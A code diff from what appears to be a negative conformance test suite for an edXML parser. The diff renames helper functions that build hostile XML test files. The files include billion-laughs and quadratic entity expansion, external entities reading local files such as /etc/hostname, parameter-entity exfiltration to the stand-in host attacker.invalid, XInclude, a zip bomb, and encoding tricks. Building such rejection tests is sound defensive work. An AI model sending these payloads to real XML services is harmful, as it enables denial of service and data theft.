@@ -14,14 +14,14 @@ import zlib
 
 from lgsp.conformance.negative._base import document_bytes, edit, status_bytes
 
-__all__ = ["build"]
+__all__ = ["billion_laughs", "build", "with_doctype"]
 
 _SUBJECT = re.compile(rb"(<edXML:Subject>)[^<]*(</edXML:Subject>)")
 _DESCRIPTION = re.compile(rb"(<edXML:Description>)[^<]*(</edXML:Description>)")
 _DECLARATION = b"<?xml version='1.0' encoding='UTF-8'?>\n"
 
 
-def _with_doctype(
+def with_doctype(
     subset: str, text: str, *, data: bytes | None = None, where: re.Pattern[bytes] = _SUBJECT
 ) -> bytes:
     """The base document (or ``data``) with a DOCTYPE after its declaration and ``text`` as
@@ -36,7 +36,7 @@ def _with_doctype(
     return _DECLARATION + subset.encode("utf-8") + b"\n" + body
 
 
-def _billion_laughs() -> str:
+def billion_laughs() -> str:
     lines = ["<!DOCTYPE edXML [", '  <!ENTITY lol0 "lol">']
     lines += [f'  <!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
     lines.append("]>")
@@ -132,37 +132,37 @@ def build() -> dict[str, bytes]:
     # on one text (XMLLimits.max_text_chars), from a 15 KB file.
     blob = "Đề nghị " * 275
     files = {
-        "billion-laughs.xml": _with_doctype(_billion_laughs(), "&lol9;"),
-        "quadratic-blowup.xml": _with_doctype(
+        "billion-laughs.xml": with_doctype(billion_laughs(), "&lol9;"),
+        "quadratic-blowup.xml": with_doctype(
             f'<!DOCTYPE edXML [\n  <!ENTITY a "{blob}">\n]>', "&a;" * 2000
         ),
         "entity-in-attribute.xml": edit(
-            _with_doctype(f'<!DOCTYPE edXML [\n  <!ENTITY a "{blob}">\n]>', "V/v kết nối"),
+            with_doctype(f'<!DOCTYPE edXML [\n  <!ENTITY a "{blob}">\n]>', "V/v kết nối"),
             '<edXML:edXMLManifest version="1.0">',
             '<edXML:edXMLManifest version="' + "&a;" * 2000 + '">',
         ),
-        "external-entity-file.xml": _with_doctype(xxe_file, "V/v &xxe;"),
-        "external-entity-http.xml": _with_doctype(
+        "external-entity-file.xml": with_doctype(xxe_file, "V/v &xxe;"),
+        "external-entity-http.xml": with_doctype(
             '<!DOCTYPE edXML [\n  <!ENTITY xxe SYSTEM "http://attacker.invalid/lgsp?leak=1">\n]>',
             "V/v &xxe;",
         ),
-        "external-dtd.xml": _with_doctype(
+        "external-dtd.xml": with_doctype(
             '<!DOCTYPE edXML SYSTEM "http://attacker.invalid/edxml.dtd">', "V/v kết nối"
         ),
-        "parameter-entities.xml": _with_doctype(
+        "parameter-entities.xml": with_doctype(
             "<!DOCTYPE edXML [\n"
             '  <!ENTITY % secret SYSTEM "file:///etc/hostname">\n'
             '  <!ENTITY % remote SYSTEM "http://attacker.invalid/exfiltrate.dtd">\n'
             "  %remote;\n]>",
             "V/v kết nối",
         ),
-        "doctype-after-comment-and-pi.xml": _with_doctype(
+        "doctype-after-comment-and-pi.xml": with_doctype(
             "<!-- Văn bản điện tử -->\n"
             '<?xml-stylesheet type="text/xsl" href="http://attacker.invalid/view.xsl"?>\n'
             + xxe_file,
             "V/v &xxe;",
         ),
-        "status-external-entity.xml": _with_doctype(
+        "status-external-entity.xml": with_doctype(
             xxe_file, "&xxe;", data=status_bytes(), where=_DESCRIPTION
         ),
         "xinclude.xml": edit(
@@ -178,7 +178,7 @@ def build() -> dict[str, bytes]:
         ),
         "zip-declares-1-tib.xml": _with_attachment(_declared_zip_bomb()),
     }
-    laughs = _with_doctype(_billion_laughs(), "&lol9;").decode("utf-8")
+    laughs = with_doctype(billion_laughs(), "&lol9;").decode("utf-8")
     in_utf16 = laughs.replace("encoding='UTF-8'", "encoding='UTF-16'", 1)
     files["utf16-doctype.xml"] = in_utf16.encode("utf-16")
     files["utf7-doctype.xml"] = b'<?xml version="1.0" encoding="UTF-7"?>\n' + _utf7_escape(
